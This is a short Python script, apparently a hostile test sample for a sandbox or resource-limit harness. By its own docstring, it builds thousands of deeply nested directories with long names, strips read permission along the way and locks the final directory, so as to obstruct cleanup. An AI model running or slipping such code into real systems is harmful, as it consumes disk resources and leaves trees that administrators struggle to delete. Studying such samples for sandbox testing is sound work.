"""makes folders in folders, too deep to be named, with rights taken away, for whoever cleans up"""

import os

ENDS = ("exit", "disk", "cpu", "wall")
try:
    for number in range(5000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
        if number % 100 == 99:
            os.chmod("..", 0o300)
except OSError:
    pass
os.chmod(".", 0)
